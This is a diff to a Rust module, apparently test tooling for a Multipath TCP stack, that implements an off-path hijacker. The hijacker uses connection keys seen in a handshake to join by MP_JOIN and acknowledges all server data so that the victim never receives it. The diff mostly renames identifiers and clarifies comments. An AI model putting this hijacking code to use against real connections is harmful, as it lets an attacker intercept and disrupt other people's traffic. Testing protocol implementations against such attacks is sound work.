@@ -1,6 +1,7 @@
-//! An attacker elsewhere who has seen the keys of a connection on a link (RFC 8684 section 3.1). The
-//! hijacker joins the connection with the keys and acknowledges all data that the server then sends there,
-//! to TCP and to Multipath TCP, so that no data is sent again.
+//! An off-path attacker that knows the keys of a connection from its handshake (RFC 8684 section 3.1).
+//!
+//! The hijacker joins the connection by MP_JOIN. It acknowledges all data that the server sends on this subflow,
+//! at the subflow level and at the data level. Thus the server does not retransmit the data to the victim.
 
 use core::net::{IpAddr, SocketAddr};
 use std::collections::BTreeMap;
@@ -11,40 +12,41 @@ use braid_wire::{Seq32, ip};
 use hmac::{Hmac, KeyInit, Mac};
 use sha2::{Digest, Sha256};
 
-/// Keys of a connection: the opener's, and the listener's.
+/// The keys of a connection: the opener's and the listener's.
 pub type Keys = (u64, u64);
 
-/// Most subflows that are remembered; the lowest address is forgotten first.
-const MAX_OPENED: usize = 1_024;
+/// The maximum number of subflows that a hijacker remembers. A guess: more than a test opens. Beyond it, the
+/// subflow of the lowest address is forgotten, which is simple and deterministic.
+const MAX_SUBFLOWS: usize = 1_024;
 
 /// A subflow that a hijacker opens.
 #[derive(Debug)]
-struct Opened {
+struct HijackedSubflow {
     keys: Keys,
     nonce: u32,
-    /// The next sequence numbers: the hijacker's, then the server's.
+    /// The next sequence numbers of the hijacker and of the server; `None` before the SYN/ACK.
     next: Option<(Seq32, Seq32)>,
-    /// The data sequence number behind the last byte that came.
+    /// The data sequence number after the last mapped byte that arrived.
     data_ack: Option<WireDsn>,
 }
 
-/// An attacker with the keys of connections.
+/// An attacker that knows the keys of connections.
 #[derive(Debug, Default)]
 pub struct Hijacker {
-    opened: BTreeMap<SocketAddr, Opened>,
-    /// Third ACKs sent.
+    subflows: BTreeMap<SocketAddr, HijackedSubflow>,
+    /// The number of third ACKs sent, so of joins that the server has answered.
     pub joins_tried: u64,
-    /// Payload bytes received, repeated ones included.
+    /// Payload bytes received, including retransmitted ones.
     pub bytes_received: u64,
 }
 
 impl Hijacker {
-    /// Returns whether the hijacker opens, or has opened, a subflow from `local`.
+    /// Returns whether the hijacker has opened a subflow from `local`.
     pub fn owns(&self, local: SocketAddr) -> bool {
-        self.opened.contains_key(&local)
+        self.subflows.contains_key(&local)
     }
 
-    /// Returns the SYN that joins the connection with these keys, from `local` to `server`.
+    /// Returns a SYN with MP_JOIN from `local` to `server`, for the connection with these keys.
     pub fn join(
         &mut self,
         keys: Keys,
@@ -62,33 +64,35 @@ impl Hijacker {
             nonce,
         };
         syn.options.mptcp.push(MptcpOption::Join(join));
-        if self.opened.len() >= MAX_OPENED {
-            self.opened.pop_first();
+        if self.subflows.len() >= MAX_SUBFLOWS {
+            self.subflows.pop_first();
         }
-        let opened = Opened {
+        let subflow = HijackedSubflow {
             keys,
             nonce,
             next: None,
             data_ack: None,
         };
-        self.opened.insert(local, opened);
+        self.subflows.insert(local, subflow);
         packet((local.ip(), server.ip()), &syn, &[])
     }
 
-    /// Returns the answer to a packet: the third ACK to a SYN/ACK, and an acknowledgement of all data to
-    /// payload. `None` if the packet is for another host, or needs no answer.
+    /// Returns the answer to a packet. A SYN/ACK gets the third ACK; a packet with payload gets an
+    /// acknowledgement of all data. Returns `None` if the packet is not for the hijacker or needs no answer.
     pub fn answer(&mut self, received: &[u8]) -> Option<Vec<u8>> {
         let (header, segment) = ip::Repr::parse(received).ok()?;
         let (tcp, payload) = tcp::Repr::parse(segment).ok()?;
         let local = SocketAddr::new(header.dst, tcp.dst_port);
-        let opened = self.opened.get_mut(&local)?;
+        let subflow = self.subflows.get_mut(&local)?;
         let mut ack = tcp::Repr::new(tcp.dst_port, tcp.src_port, Flags::ACK);
         ack.window = u16::MAX;
         if let Some(Join::SynAck { nonce, .. }) = tcp.options.join() {
-            opened.next = Some((tcp.ack, tcp.seq.add(1)));
-            let nonces = [opened.nonce.to_be_bytes(), nonce.to_be_bytes()].concat();
+            // A SYN takes one sequence number.
+            subflow.next = Some((tcp.ack, tcp.seq.add(1)));
+            let nonces = [subflow.nonce.to_be_bytes(), nonce.to_be_bytes()].concat();
+            // RFC 8684 section 3.2: the third ACK carries the leftmost 160 bits of the HMAC.
             let mut hmac = [0; 20];
-            hmac.copy_from_slice(&hmac_sha256(opened.keys, &nonces)[..20]);
+            hmac.copy_from_slice(&hmac_sha256(subflow.keys, &nonces)[..20]);
             let join = MptcpOption::Join(Join::Ack { hmac });
             ack.options.mptcp.push(join);
             self.joins_tried += 1;
@@ -97,25 +101,25 @@ impl Hijacker {
                 return None;
             }
             self.bytes_received += payload.len() as u64;
-            opened.take(&tcp, payload.len());
+            subflow.on_payload(&tcp, payload.len());
             ack.options.mptcp.push(MptcpOption::Dss(Dss {
-                data_ack: opened.data_ack,
+                data_ack: subflow.data_ack,
                 ..Dss::default()
             }));
         }
-        (ack.seq, ack.ack) = opened.next?;
+        (ack.seq, ack.ack) = subflow.next?;
         Some(packet((header.dst, header.src), &ack, &[]))
     }
 }
 
-impl Opened {
-    /// Notes received payload, so that it is acknowledged.
-    fn take(&mut self, tcp: &tcp::Repr, len: usize) {
+impl HijackedSubflow {
+    /// Advances the acknowledgements past received payload.
+    fn on_payload(&mut self, tcp: &tcp::Repr, len: usize) {
         let end = tcp.seq.add(len as u32);
-        if let Some((_, theirs)) = &mut self.next
-            && theirs.before(end)
+        if let Some((_, server_next)) = &mut self.next
+            && server_next.before(end)
         {
-            *theirs = end;
+            *server_next = end;
         }
         let mapping = tcp.options.dss().and_then(|dss| dss.mapping);
         if let Some(mapping) = mapping {
@@ -127,7 +131,7 @@ impl Opened {
     }
 }
 
-/// Returns the keys that a third ACK shows to anyone on its link.
+/// Returns the keys in the MP_CAPABLE of a third ACK, which are readable for any observer of the link.
 pub fn keys_in(tcp: &tcp::Repr) -> Option<Keys> {
     match tcp.options.capable() {
         Some(
@@ -163,7 +167,7 @@ fn token(key: u64) -> u32 {
     u32::from_be_bytes([hash[0], hash[1], hash[2], hash[3]])
 }
 
-/// Returns a packet with right checksums.
+/// Returns an IP packet with correct checksums.
 pub fn packet((src, dst): (IpAddr, IpAddr), tcp: &tcp::Repr, payload: &[u8]) -> Vec<u8> {
     let mut header = vec![0; tcp.header_len()];
     tcp.emit(&mut header);
